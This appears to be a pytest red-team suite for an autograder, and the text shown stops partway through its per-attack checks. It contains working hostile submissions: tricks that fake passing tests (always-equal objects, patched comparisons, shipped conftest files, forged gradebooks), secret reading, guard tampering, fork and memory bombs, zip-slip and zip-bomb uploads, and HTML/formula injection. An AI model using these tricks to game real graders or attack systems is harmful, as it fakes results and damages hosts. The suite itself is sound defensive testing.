"""Red team: hostile submissions graded in one batch must gain nothing and harm no one.

One class is built in a temporary folder: an honest student (a full copy of
solutions/ch2) and one attacker per trick. Each attacker submits only
`ch2/activations.py` (the solution with one function replaced by the attack, or
a module-level attack), so its other ch2 modules are missing and fail fast.
The class is graded ONCE (`python -m autograder grade ... --jobs 2 --chapter ch2`,
in a subprocess, as root: the sandbox then uses namespaces and a uid of its own per worker),
then every attack is checked against the exact score it deserves, exercise by
exercise, in grades.csv and in its results.json:

- the attacked exercise scores 0, every untouched activations exercise keeps its
  honest points (grading.toml), an attack at import time (or a refused upload)
  loses every activations exercise, and the honest student has exactly 100;
- the batch completes, every student has a results.json, feedback stays under the
  cap, no file outside OUT is created or modified, no process of a sandbox uid survives.

Every bomb is bounded and self-cleaning even without the sandbox's limits: the
memory bomb stops at 8 GiB, the fork bomb after 500 forks (its children sleep 20 s),
the daemon is `sleep 600` under a marker name that the fixture kills if it survives,
and every file an attacker may write carries the session's token in its name.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import secrets
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from autograder.config import load_exercises
from autograder.layout import KIT
from autograder.report import MAX_FEEDBACK_CHARS

if os.geteuid() != 0:
    pytest.skip("the red-team suite checks the root sandbox (namespaces, sandbox uids); "
                "run it as root or in the Docker image", allow_module_level=True)

from autograder.sandbox import SANDBOX_UID_BASE, is_sandbox_uid  # noqa: E402

TOKEN = secrets.token_hex(4)                 # marks every file and process an attacker makes
FORGED = f"forged-{TOKEN}"                   # what a forged results file or gradebook row says
BATCH_TIMEOUT = 900
EXERCISES = {ex.id: ex for ex in load_exercises().values() if ex.chapter == "ch2"}
ACTIVATIONS = [ex_id for ex_id, ex in EXERCISES.items() if ex.module == "activations"]
RELU = "ch2.activations.relu"
RELU_BACKWARD = "ch2.activations.relu_backward"
SOLUTION_SOURCE = (KIT.solutions / "ch2" / "activations.py").read_text()
HONEST_RELU = "torch.where(x > 0, x, torch.zeros_like(x))"
WRONG_RELU = "x.new_full((*x.shape, 2), 7.0)"   # wrong shape: fails on every device, meta too
TMP_AREAS = [Path(p) for p in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock") if os.path.isdir(p)]


# ------------------------------------------------------------------ building attackers

def replace_def(source: str, name: str, new: str) -> str:
    """`source` with the top-level function `name` replaced by the code `new`."""
    match = re.search(rf"^def {name}\(.*?(?=^def |\Z)", source, flags=re.S | re.M)
    assert match, name
    return source[:match.start()] + new.strip("\n") + "\n\n\n" + source[match.end():]


def with_prelude(source: str, prelude: str) -> str:
    """Module-level code inserted right after `import torch` (it runs at import)."""
    return source.replace("import torch\n", "import torch\n" + prelude.strip("\n") + "\n", 1)


def relu_source(body: str, prelude: str = "") -> str:
    """The solution with `relu` replaced by `def relu(x):` + body (indented 4)."""
    source = replace_def(SOLUTION_SOURCE, "relu", "def relu(x):\n" + body.strip("\n"))
    return with_prelude(source, prelude) if prelude else source


@dataclass
class Attack:
    name: str
    what: str                                 # one line: the trick
    files: dict = field(default_factory=dict)  # relative path -> str | bytes | Symlink
    zip: bool = False                          # submit as <name>.zip instead of a folder
    zero: tuple | str = ()                     # activations exercises that must score 0, or "all"
    status: str | None = None                  # their expected status (policy, import), if known
    maybe: tuple = ()                          # exercises allowed to keep their honest points
    extra: object = None                       # extra check: fn(batch, attack)
    graded: bool = True                        # False: must not appear in the batch at all

    def expected(self, exercise_id: str) -> float:
        ex = EXERCISES[exercise_id]
        if self.name == "honest":
            return ex.points
        if ex.module != "activations":
            return 0.0                         # attackers submit activations.py only
        if self.zero == "all" or exercise_id in self.zero:
            return 0.0
        return ex.points


@dataclass
class Symlink:
    target: str


# Paths an attacker can reasonably guess; the fixture fills them in.
PLACEHOLDERS = {}


def fill(text: str) -> str:
    for key, value in PLACEHOLDERS.items():
        text = text.replace(key, value)
    return text


ATTACKS: list[Attack] = []


def attack(name, what, body=None, prelude="", **kw):
    files = kw.pop("files", None)
    if files is None:
        files = {"ch2/activations.py": relu_source(body, prelude)}
    ATTACKS.append(Attack(name, what, files, **kw))


ATTACKS.append(Attack("honest", "control: a full copy of solutions/ch2 (minus tests)", files={}))

# --- results that are not what they seem
attack("always_equal", "relu returns an object whose __eq__ is always True", """
    class AlwaysEqual:
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        def __bool__(self):
            return True
    return AlwaysEqual()
""", zero=(RELU,))

attack("tensor_subclass", "relu returns a tensor subclass whose __torch_function__ agrees with everything", """
    return torch.zeros_like(x).as_subclass(Agreeable)
""", prelude="""
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
""", zero=(RELU,))

attack("patch_comparisons", "patches torch.allclose, torch.testing.assert_close, numpy.allclose, torch.equal "
       "at import (and again in relu); relu is wrong", f"""
    torch.allclose = torch.equal = lambda *a, **k: True
    return {WRONG_RELU}
""", prelude="""
import numpy
import torch.testing
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.equal = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
""", zero=(RELU,))

# --- leaving early
attack("sys_exit_at_import", "sys.exit(0) at import", "    return " + HONEST_RELU,
       prelude="import sys\nsys.exit(0)", zero="all", status="import")
attack("os_exit_in_relu", "os._exit(0) inside relu", """
    import os
    os._exit(0)
""", zero=(RELU,))
attack("pytest_skip_in_relu", "pytest.skip() inside relu", """
    import pytest
    pytest.skip("nothing to see here", allow_module_level=True)
""", zero=(RELU,))
attack("pytest_exit_in_relu", "pytest.exit(returncode=0) inside relu", """
    import pytest
    pytest.exit("stop grading", returncode=0)
""", zero=(RELU,))

# --- configuring the grader from the submission
_SKIP_ALL = """import pytest

def pytest_collection_modifyitems(items):
    for item in items:
        item.add_marker(pytest.mark.skip(reason="redteam"))

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
_FAKE_TORCH = "allclose = equal = lambda *a, **k: True\ndef __getattr__(name):\n    return lambda *a, **k: True\n"
_PATCH = "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
attack("shipped_config", "ships conftest.py (skips/passes everything), sitecustomize.py, usercustomize.py, "
       "torch.py, evil.pth, pytest.ini next to a wrong relu", files={
           "ch2/activations.py": relu_source(f"    return {WRONG_RELU}"),
           "conftest.py": _SKIP_ALL, "ch2/conftest.py": _SKIP_ALL,
           "sitecustomize.py": _PATCH, "usercustomize.py": _PATCH, "ch2/sitecustomize.py": _PATCH,
           "torch.py": _FAKE_TORCH, "ch2/torch.py": _FAKE_TORCH,
           "evil.pth": "import sitecustomize\n", "ch2/evil.pth": "import sitecustomize\n",
           "pytest.ini": "[pytest]\naddopts = -p conftest --co\n",
           "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
       }, zero=(RELU,))

# --- writing the grader's outputs
_WRITE_EVERYTHING = """
def _forge():
    import glob, json, os, sqlite3
    forged = json.dumps({"score": 100.0, "max_score": 100.0, "tests": [], "redteam": "@FORGED@"})
    row = "student,total\\r\\nwrite_outputs,100\\r\\n@FORGED@\\r\\n"
    targets = ["results.json", "grades.csv", "gradebook.sqlite", "../results.json", "../../results.json",
               "../../grades.csv", "../../gradebook.sqlite", "/autograder/results/results.json",
               "@OUT@/grades.csv", "@OUT@/gradebook.sqlite", "@OUT@/write_outputs/results.json",
               "@OUT@/honest/results.json", "@OUT@/redteam-@TOKEN@.txt",
               "@OUT@/.workspace/write_outputs/ch2/activations.py", "@SUBS@/redteam-@TOKEN@.txt",
               "@KIT@/grading.toml", "@KIT@/redteam-@TOKEN@.txt", "@KIT@/solutions/ch2/activations.py"]
    targets += [f"{area}/redteam-@TOKEN@-{name}" for area in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")
                for name in ("results.json", "grades.csv")]
    for pattern in ("@ROOT_GLOB@/*/grades.csv", "@ROOT_GLOB@/*/gradebook.sqlite", "@ROOT_GLOB@/*/*/results.json"):
        targets += glob.glob(pattern)
    for target in targets:
        try:
            with open(target, "a" if target.endswith(".py") or target.endswith(".toml") else "w") as f:
                f.write(forged if target.endswith(".json") else row)
        except OSError:
            pass
    for book in ["@OUT@/gradebook.sqlite"] + glob.glob("@ROOT_GLOB@/*/gradebook.sqlite"):
        try:
            with sqlite3.connect(book, timeout=0.1) as db:
                db.execute("UPDATE submissions SET total = 100")
                db.execute("UPDATE exercise_results SET score = max_score")
        except Exception:
            pass
"""
attack("write_outputs", "writes results.json / grades.csv / gradebook.sqlite (cwd, ../.., /tmp, "
       "globbed and exact OUT paths, the kit) at import and in relu; relu is wrong", f"""
    _forge()
    return {WRONG_RELU}
""", prelude=_WRITE_EVERYTHING + "\n_forge()\n", zero=(RELU,))

# --- reading what must stay hidden
attack("read_secrets", "relu execs the solution (absolute and relative paths) if readable, or answers "
       "right if the hidden tests or grading.toml are readable; else wrong", f"""
    for path in ("@SOLUTION@", "../../solutions/ch2/activations.py", "@HIDDEN_TEST@", "@GRADING_TOML@",
                 "@KIT@/tests/ch2/reference/activations.py", "@KIT@/kit_tests/conftest.py"):
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in text:
            namespace = {{}}
            exec(compile(text, "leaked", "exec"), namespace)
            return namespace["relu"](x)
        if text.strip():
            return {HONEST_RELU}
    return {WRONG_RELU}
""", zero=(RELU,))

attack("leak_sibling_solutions", "relu answers right if the reference solutions of the other ch2 modules "
       "(shipped into its worker as siblings) can be read next to it; else wrong", f"""
    import os
    here = os.path.dirname(os.path.abspath(__file__))
    for name in ("losses", "mlp", "gradcheck", "init", "perceptron"):
        try:
            with open(os.path.join(here, name + ".py")) as f:
                if "BEGIN SOLUTION" in f.read():
                    return {HONEST_RELU}
        except OSError:
            pass
    return {WRONG_RELU}
""", zero=(RELU,))

attack("copy_classmate", "relu execs the honest classmate's activations.py from the submissions folder "
       "or OUT/.workspace (exact and globbed paths) if readable; else wrong", f"""
    import glob
    paths = ["@SUBS@/honest/ch2/activations.py", "@OUT@/.workspace/honest/ch2/activations.py"]
    paths += glob.glob("@ROOT_GLOB@/*/*/ch2/activations.py")
    paths += glob.glob("@ROOT_GLOB@/*/.workspace/*/ch2/activations.py")
    for path in paths:
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        if "def relu" in text and "copy_classmate" not in path:
            namespace = {{}}
            exec(compile(text, "copied", "exec"), namespace)
            try:
                return namespace["relu"](x)
            except Exception:
                continue
    return {WRONG_RELU}
""", zero=(RELU,))

# --- forbidden shortcuts, obfuscated
attack("forbidden_getattr", "relu calls getattr(F, 're' + 'lu')", """
    import torch.nn.functional as F
    return getattr(F, "re" + "lu")(x)
""", zero=(RELU,), status="policy")
attack("forbidden_import_module_dict", "relu calls importlib.import_module('torch.nn.functional').__dict__['relu']", """
    import importlib
    return importlib.import_module("torch.nn.functional").__dict__["relu"](x)
""", zero=(RELU,), status="policy")
attack("forbidden_nn_relu", "relu calls torch.nn.ReLU() through an alias the static check cannot follow", """
    nn = torch.nn
    return nn.ReLU()(x)
""", zero=(RELU,), status="policy")
attack("forbidden_aten_op", "relu calls torch.ops.aten.relu (the aten op of torch.relu)", """
    return torch.ops.aten.relu(x)
""", zero=(RELU,), status="policy")
attack("forbidden_in_thread", "relu calls getattr(F, 'relu') in a new thread (the guard watches one thread)", """
    import threading
    import torch.nn.functional as F
    out = {}
    worker = threading.Thread(target=lambda: out.update(y=getattr(F, "re" + "lu")(x)))
    worker.start()
    worker.join()
    return out["y"]
""", zero=(RELU,), status="policy")
ATTACKS.append(Attack(
    "forbidden_aten_backward", "gelu_backward calls the aten op torch.ops.aten.gelu_backward through getattr",
    files={"ch2/activations.py": replace_def(SOLUTION_SOURCE, "gelu_backward", """
def gelu_backward(grad_output, x, approximate="none"):
    if approximate not in ("none", "tanh"):
        raise ValueError(approximate)
    return getattr(torch.ops.aten, "gelu_" + "backward")(grad_output, x, approximate=approximate)
""")}, zero=("ch2.activations.gelu_backward",), status="policy"))
ATTACKS.append(Attack(
    "forbidden_autograd_grad", "relu_backward uses torch.autograd.grad reached through getattr",
    files={"ch2/activations.py": replace_def(SOLUTION_SOURCE, "relu_backward", """
def relu_backward(grad_output, x):
    x = x.detach().requires_grad_()
    y = torch.where(x > 0, x, torch.zeros_like(x))
    (grad,) = getattr(torch.autograd, "gr" + "ad")(y, x, grad_output)
    return grad
""")}, zero=(RELU_BACKWARD,), status="policy"))

# --- tampering with the run-time guard
attack("guard_tamper_setprofile", "relu removes the profiler (sys.setprofile(None), reached through getattr "
       "so that only the run-time check can see it), then getattr(F, 'relu')", """
    import sys
    import torch.nn.functional as F
    getattr(sys, "set" + "profile")(None)
    return getattr(F, "re" + "lu")(x)
""", zero=(RELU,), status="policy")
attack("guard_tamper_disable", "relu removes the profiler (through getattr) and disables torch-function "
       "modes, then F.relu", """
    import sys
    import torch.nn.functional as F
    getattr(sys, "set" + "profile")(None)
    with torch._C.DisableTorchFunction():
        return getattr(F, "re" + "lu")(x)
""", zero=(RELU,), status="policy")
attack("guard_tamper_object", "relu reaches the guard as sys.getprofile().__self__ and neuters it, then F.relu", """
    import sys
    import torch.nn.functional as F
    guard = sys.getprofile().__self__
    guard._hit = lambda name: None
    guard.violations = type("Forgetful", (list,), {"append": lambda self, item: None})()
    return getattr(F, "re" + "lu")(x)
""", zero=(RELU,), status="policy")
attack("guard_tamper_frames", "relu finds the guard through traceback frames and neuters it, then F.relu", """
    import torch.nn.functional as F
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None and "guard" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        guard = frame.f_locals["guard"]
        guard._hit = lambda name: None
        guard.violations = []
    y = getattr(F, "re" + "lu")(x)
    if frame is not None:
        guard.violations = []
    return y
""", zero=(RELU,), status="policy")

# --- resource bombs (each bounded and self-cleaning on its own)
attack("infinite_loop", "relu never returns", """
    while True:
        pass
""", zero=(RELU,))
attack("memory_bomb", "relu asks for 64 GiB at once (not touched), then fills a list with 256 MiB "
       "bytearrays up to 8 GiB; answers right only if no limit stopped it", f"""
    global _HOARD_DONE
    if _HOARD_DONE is None:
        hoard = []
        try:
            huge = torch.empty(64 << 30, dtype=torch.uint8)   # address space only: pages never touched
            del huge
        except (MemoryError, RuntimeError):
            pass
        _HOARD_DONE = False
        try:
            while len(hoard) * 256 < 8 << 10:
                hoard.append(bytearray(256 << 20))
            _HOARD_DONE = True
        except MemoryError:
            pass
        del hoard
    if not _HOARD_DONE:
        raise MemoryError("the memory bomb was stopped")
    return {HONEST_RELU}
""", prelude="_HOARD_DONE = None", zero=(RELU,))
attack("fork_bomb", "relu forks up to 500 children (each exec's `sleep 20`); answers right only if all "
       "500 forks succeeded", f"""
    import os
    forked = 0
    for _ in range(500):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.execv("/bin/sleep", ["redteam-fork-@TOKEN@", "20"])
            finally:
                os._exit(0)
        forked += 1
    if forked >= 500:
        return {HONEST_RELU}
    return {WRONG_RELU}
""", zero=(RELU,))
attack("flood_output", "relu prints 100 MB to stdout and stderr, otherwise correct", f"""
    import sys
    chunk = "A" * (1 << 20) + "\\n"
    try:
        for _ in range(50):
            sys.stdout.write(chunk)
            sys.stderr.write(chunk)
        sys.stdout.flush()
        sys.stderr.flush()
    except OSError:
        pass
    return {HONEST_RELU}
""", maybe=(RELU,))
attack("huge_error_message", "relu raises an exception whose message is 40 MB", """
    raise ValueError("A" * (40 << 20))
""", zero=(RELU,))
attack("markup_injection", "relu raises an error full of HTML, terminal escapes, a CSV formula and backticks", """
    raise ValueError("<script>alert('redteam')</script><img src=x onerror=alert(1)>"
                     "\\x1b]0;pwned\\x07\\x1b[2J =HYPERLINK(\\"http://evil\\") ``` </code> [x](javascript:alert(1))")
""", zero=(RELU,))
attack("network", "relu answers right only if it can connect to 127.0.0.1 (a listening port of the "
       "test) or a public IP", f"""
    global _NETWORK
    if _NETWORK is None:
        import socket
        _NETWORK = []
        for host, port in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("8.8.8.8", 53)):
            try:
                socket.create_connection((host, port), timeout=1.5).close()
                _NETWORK.append(host)
            except OSError:
                pass
    if _NETWORK:
        return {HONEST_RELU}
    return {WRONG_RELU}
""", prelude="_NETWORK = None", zero=(RELU,))
attack("daemon", "relu double-forks a setsid daemon (`sleep 600` under a marker name); relu is otherwise "
       "correct, so it keeps its point only if the daemon really started", f"""
    global _DAEMON
    if _DAEMON is None:
        _DAEMON = _start_daemon()
    if _DAEMON:
        return {HONEST_RELU}
    return {WRONG_RELU}
""", prelude="""
_DAEMON = None


def _start_daemon():
    import os, time
    read, write = os.pipe()
    deadline = time.monotonic() + 10
    while True:
        try:
            pid = os.fork()
            break
        except OSError:
            if time.monotonic() > deadline:
                return False
            time.sleep(0.2)
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.close(read)
                os.write(write, b"1")
                os.close(write)
                os.execv("/bin/sleep", ["redteam-daemon-@TOKEN@", "600"])
        finally:
            os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    started = os.read(read, 1) == b"1"
    os.close(read)
    return started
""")
attack("deep_nesting", "relu returns a list nested 10,000 deep", """
    value = []
    for _ in range(10_000):
        value = [value]
    return value
""", zero=(RELU,))
attack("huge_tensor", "relu returns a 512 MiB tensor", """
    return torch.zeros(128 << 20, dtype=torch.float32, device=x.device)
""", zero=(RELU,))

# --- hostile uploads (ingest)
ATTACKS.append(Attack(
    "zip_slip", "a zip with ../../evil, /tmp/evil, ..\\evil and a symlink member (ch2/losses.py -> the "
    "solution) next to a correct ch2/activations.py", zip=True, files={
        f"../../evil_redteam_{TOKEN}.py": "print('evil')\n",
        f"/tmp/evil_redteam_{TOKEN}_abs.py": "print('evil')\n",
        f"..\\..\\evil_redteam_{TOKEN}_win.py": "print('evil')\n",
        "ch2/activations.py": SOLUTION_SOURCE,
        "ch2/losses.py": Symlink(str(KIT.solutions / "ch2" / "losses.py")),
    }))
ATTACKS.append(Attack(
    "symlink_file", "ch2/activations.py is a symlink to solutions/ch2/activations.py",
    files={"ch2/activations.py": Symlink(str(KIT.solutions / "ch2" / "activations.py"))},
    zero="all", status="import"))
ATTACKS.append(Attack(
    "symlink_dir", "ch2/ is a symlink to solutions/ch2",
    files={"ch2": Symlink(str(KIT.solutions / "ch2"))}, zero="all", status="import"))
ATTACKS.append(Attack(
    "symlink_student", "the student's whole folder is a symlink to the kit's solutions/",
    files={".": Symlink(str(KIT.solutions))}, graded=False))
ATTACKS.append(Attack(
    "zip_bomb", "a zip whose ch2/activations.py (correct source + padding) inflates to 100 MiB",
    zip=True, files={"ch2/activations.py": None}, zero="all", status="import"))


# ------------------------------------------------------------------ the class on disk

def _zip_bomb(path: Path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open(zipfile.ZipInfo("ch2/activations.py"), "w", force_zip64=True) as member:
            member.write(SOLUTION_SOURCE.encode() + b"\n#")
            block = b" " * (1 << 20)
            for _ in range(100):
                member.write(block)


def _write_zip(path: Path, files: dict):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            info = zipfile.ZipInfo(name)
            if isinstance(content, Symlink):
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                zf.writestr(info, content.target)
            else:
                info.external_attr = (stat.S_IFREG | 0o644) << 16
                zf.writestr(info, fill(content))


def build_class(subs: Path):
    subs.mkdir()
    honest = subs / "honest" / "ch2"
    honest.mkdir(parents=True)
    for path in (KIT.solutions / "ch2").glob("*.py"):
        if not path.name.startswith("test_"):
            shutil.copy(path, honest / path.name)
    for a in ATTACKS:
        if a.name == "honest":
            continue
        if a.name == "zip_bomb":
            _zip_bomb(subs / f"{a.name}.zip")
        elif a.zip:
            _write_zip(subs / f"{a.name}.zip", a.files)
        else:
            for rel, content in a.files.items():
                target = subs / a.name / rel if rel != "." else subs / a.name
                target.parent.mkdir(parents=True, exist_ok=True)
                if isinstance(content, Symlink):
                    target.symlink_to(content.target)
                else:
                    target.write_text(fill(content))


# ------------------------------------------------------------------ snapshots

def _stat(path: Path):
    try:
        st = os.lstat(path)
    except OSError:
        return None
    return (st.st_mtime_ns, st.st_size, st.st_uid, stat.S_IFMT(st.st_mode))


def _tree(root: Path, skip: Path | None = None) -> dict:
    found = {}
    for folder, dirs, files in os.walk(root):
        if skip is not None and Path(folder) == skip.parent:
            dirs[:] = [d for d in dirs if Path(folder) / d != skip]
        for name in dirs + files:
            p = Path(folder) / name
            found[str(p)] = _stat(p)
    return found


def _top(folder: Path) -> dict:
    try:
        return {str(p): _stat(p) for p in folder.iterdir()}
    except OSError:
        return {}


def _kit_files() -> dict:
    listed = subprocess.run(["git", "ls-files", "-z", "-c", "-o", "--exclude-standard"], cwd=KIT.root,
                            capture_output=True, check=True).stdout.decode().split("\0")
    return {str(KIT.root / rel): _stat(KIT.root / rel) for rel in listed if rel}


def _owned_by_workers(roots) -> set:
    """Paths under `roots` owned by a sandbox uid (a worker wrote them)."""
    found = set()
    for root in roots:
        proc = subprocess.run(["find", str(root), "-xdev", "-uid", f"+{SANDBOX_UID_BASE - 1}"],
                              capture_output=True, text=True)
        found |= {line for line in proc.stdout.splitlines() if line}
    return found


def _processes() -> dict:
    """pid -> (uid, ppid, cmdline) of every process."""
    procs = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            uid = os.stat(f"/proc/{entry}").st_uid
            with open(f"/proc/{entry}/stat") as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, IndexError, ValueError):
            continue
        procs[int(entry)] = (uid, ppid, cmdline)
    return procs


def _sandbox_dirs_in_use() -> set:
    used = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                used.add(os.readlink(f"/proc/{entry}/cwd"))
            except OSError:
                pass
    return used


@dataclass
class Snapshot:
    root: dict
    kit: dict
    tmp_tops: dict
    work_top: dict
    procs: dict

    @classmethod
    def take(cls, root: Path, out: Path) -> "Snapshot":
        tmp_tops = {}
        for area in TMP_AREAS:
            tmp_tops.update(_top(area))
        return cls(_tree(root, skip=out), _kit_files(), tmp_tops, _top(KIT.root.parent), _processes())


def _changes(before: dict, after: dict) -> list[str]:
    changed = [p for p in after if p not in before or before[p] != after[p]]
    removed = [p for p in before if p not in after]
    return sorted(changed) + [f"{p} (removed)" for p in sorted(removed)]


# ------------------------------------------------------------------ the batch

@dataclass
class Batch:
    root: Path
    subs: Path
    out: Path
    proc: subprocess.CompletedProcess
    seconds: float
    before: Snapshot
    after: Snapshot
    started: float
    worker_files: set
    leftovers: list
    csv: dict

    def results(self, student: str) -> dict:
        return json.loads((self.out / student / "results.json").read_text())

    def info(self, student: str) -> dict:
        with sqlite3.connect(f"file:{self.out / 'gradebook.sqlite'}?mode=ro", uri=True) as db:
            (info,) = db.execute("SELECT info_json FROM submissions WHERE student = ?", (student,)).fetchone()
        return json.loads(info)


@pytest.fixture(scope="module")
def batch():
    root = Path(tempfile.mkdtemp(prefix="autograder-redteam-"))
    os.chmod(root, 0o755)   # like an instructor's folder: readable by other users, the sandbox uids included
    subs, out = root / "submissions", root / "out"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    PLACEHOLDERS.update({
        "@TOKEN@": TOKEN, "@FORGED@": FORGED, "@OUT@": str(out), "@SUBS@": str(subs), "@KIT@": str(KIT.root),
        "@ROOT_GLOB@": str(root.parent / "autograder-redteam-*"), "@PORT@": str(listener.getsockname()[1]),
        "@SOLUTION@": str(KIT.solutions / "ch2" / "activations.py"),
        "@HIDDEN_TEST@": str(KIT.hidden_tests / "ch2" / "test_activations.py"),
        "@GRADING_TOML@": str(KIT.grading_toml),
    })
    build_class(subs)
    before = Snapshot.take(root, out)
    started = time.time()
    t0 = time.monotonic()
    try:
        proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(subs), "--out", str(out),
                               "--jobs", "2", "--chapter", "ch2"], cwd=KIT.root, capture_output=True,
                              text=True, timeout=BATCH_TIMEOUT)
        seconds = time.monotonic() - t0
        time.sleep(0.5)    # let killed process trees finish dying
        after = Snapshot.take(root, out)
        worker_files = {p for p in _owned_by_workers([*TMP_AREAS, KIT.root.parent, root])
                        if os.lstat(p).st_mtime >= started - 1 or TOKEN in p}
        leftovers = _leftover_processes(before.procs, after.procs)
        rows = {}
        if (out / "grades.csv").is_file():
            rows = {r["student"]: r for r in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
        yield Batch(root, subs, out, proc, seconds, before, after, started, worker_files, leftovers, rows)
    finally:
        listener.close()
        _clean_up(before.procs)
        if os.environ.get("REDTEAM_KEEP"):
            print(f"\nkept the class and its grades in {root}")
        else:
            shutil.rmtree(root, ignore_errors=True)


def _leftover_processes(before: dict, after: dict) -> list[str]:
    """New processes of sandbox uids that outlived the batch: ours by marker, or orphans."""
    found = []
    for pid, (uid, ppid, cmdline) in after.items():
        if not is_sandbox_uid(uid) or pid in before:
            continue
        if TOKEN in cmdline or ppid == 1:
            found.append(f"pid {pid} (ppid {ppid}): {cmdline[:120]}")
    return found


def _clean_up(before_procs: dict):
    """Whatever an attack left behind, if the sandbox let it: our marked processes, our marked files."""
    for pid, (uid, ppid, cmdline) in _processes().items():
        if is_sandbox_uid(uid) and pid not in before_procs and TOKEN in cmdline:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    for area in TMP_AREAS + [KIT.root]:
        for path in area.glob(f"*redteam*{TOKEN}*"):
            path.unlink(missing_ok=True)
    for path in Path("/tmp").glob(f"evil_redteam_{TOKEN}*"):
        path.unlink(missing_ok=True)


# ------------------------------------------------------------------ batch-level checks

def test_batch_completed(batch):
    assert batch.proc.returncode == 0, batch.proc.stdout[-3000:] + batch.proc.stderr[-5000:]
    print(f"\nbatch of {len(ATTACKS)} submissions graded in {batch.seconds:.1f} s")


def test_every_student_has_results(batch):
    graded = {a.name for a in ATTACKS if a.graded}
    assert set(batch.csv) == graded, f"grades.csv students differ: {set(batch.csv) ^ graded}"
    for name in graded:
        results = batch.results(name)
        assert {t["name"] for t in results["tests"]} == set(EXERCISES)
    for a in ATTACKS:
        if not a.graded:
            assert not (batch.out / a.name).exists()


def test_feedback_stays_under_the_cap(batch):
    for a in ATTACKS:
        if a.graded:
            for name in ("results.json", "feedback.md", "feedback.html"):
                size = len((batch.out / a.name / name).read_text())
                assert size <= MAX_FEEDBACK_CHARS, f"{a.name}/{name}: {size} characters"


def test_no_file_outside_out_was_written(batch):
    # The class folder is ours alone: nothing but OUT may change there.
    assert _changes(batch.before.root, batch.after.root) == []
    # The kit (tracked and untracked, not ignored) and the folder above it.
    kit = _changes(batch.before.kit, batch.after.kit) + _changes(batch.before.work_top, batch.after.work_top)
    # Shared temp areas: other programs may work there too, so a change counts when a sandboxed
    # worker made it (owned by a sandbox uid), it carries an attack's name, or it is a sandbox folder of
    # the grader that nobody uses any more (not removed).
    tmp = [p for p in _changes(batch.before.tmp_tops, batch.after.tmp_tops) if p != str(batch.root)]
    after = {**batch.after.kit, **batch.after.work_top, **batch.after.tmp_tops}
    in_use = _sandbox_dirs_in_use()
    suspicious = re.compile(rf"{TOKEN}|evil|results\.json|grades\.csv|gradebook\.sqlite")
    blamed = [p for p in kit + tmp
              if suspicious.search(p)
              or is_sandbox_uid((after.get(p) or (0, 0, -1))[2])
              or (Path(p).name.startswith("autograder-sandbox-") and p in after and p not in in_use
                  and p not in batch.before.tmp_tops)]
    blamed += sorted(batch.worker_files)
    others = sorted(set(kit + tmp) - set(blamed))
    if others:   # root-owned, ordinary names: this machine's other work, shown for the record
        print("\nchanged during the batch, not attributed to it:\n  " + "\n  ".join(others[:30]))
    assert blamed == [], "written outside OUT during the batch:\n" + "\n".join(sorted(set(blamed)))


def test_no_process_of_nobody_survives(batch):
    assert batch.leftovers == [], "\n".join(batch.leftovers)


# ------------------------------------------------------------------ one test per attack

def _extra_checks(batch, a: Attack):
    res = batch.results(a.name)
    text = {name: (batch.out / a.name / name).read_text() for name in ("results.json", "feedback.md", "feedback.html")}
    if a.name == "honest":
        assert res["score"] == 100 and all(t["status"] == "passed" for t in res["tests"])
    if a.name == "infinite_loop":
        seconds = batch.info(a.name)["seconds"]
        limit = EXERCISES[RELU].timeout
        assert seconds < 3 * limit, f"the hanging student took {seconds} s (relu's limit is {limit} s)"
    if a.name == "write_outputs":
        for path in [batch.out / "grades.csv", *(p for p in batch.out.glob("*/*") if p.is_file())]:
            assert FORGED not in path.read_text(), path
        assert FORGED.encode() not in (batch.out / "gradebook.sqlite").read_bytes()
    if a.name == "zip_slip":
        places = [batch.root, batch.subs, batch.out, batch.out / ".workspace", batch.out / ".workspace" / a.name,
                  Path("/tmp"), Path("/"), KIT.root, KIT.root.parent, Path.cwd()]
        for place in places:
            assert not list(place.glob(f"*evil_redteam_{TOKEN}*")), place
        taken = sorted(str(p.relative_to(batch.out / ".workspace" / a.name))
                       for p in (batch.out / ".workspace" / a.name).rglob("*") if p.is_file())
        assert taken == ["ch2/activations.py"]
    if a.name == "markup_injection":
        assert "<script" not in text["feedback.html"] and "<img" not in text["feedback.html"]
        assert all("\x1b" not in t for t in text.values())
    if a.name == "daemon":
